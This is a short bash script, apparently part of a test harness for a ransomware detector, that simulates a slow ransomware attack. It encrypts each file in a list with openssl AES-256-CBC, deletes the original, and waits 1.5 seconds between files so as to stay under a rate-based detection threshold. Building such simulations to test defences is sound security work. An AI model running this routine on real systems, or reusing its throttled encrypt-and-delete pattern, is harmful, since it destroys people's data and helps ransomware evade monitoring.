#!/usr/bin/env bash
# Slow encryption: one file every 1.5 s (openssl to X.enc, then X unlinked),
# well below any per-second rate, to stay under a rate threshold;
# MG_ATTACK_PAUSE seconds between files when set.
. "$(dirname "$0")/attack-lib.sh"
for i in "${!FILES[@]}"; do
	time_left || break
	f=${FILES[i]}
	attempt openssl enc -aes-256-cbc -pbkdf2 -iter 1000 -salt -pass pass:medguard -in "$f" -out "$f.enc"
	attempt rm -f "$f"
	sleep "${MG_ATTACK_PAUSE:-1.5}"
done
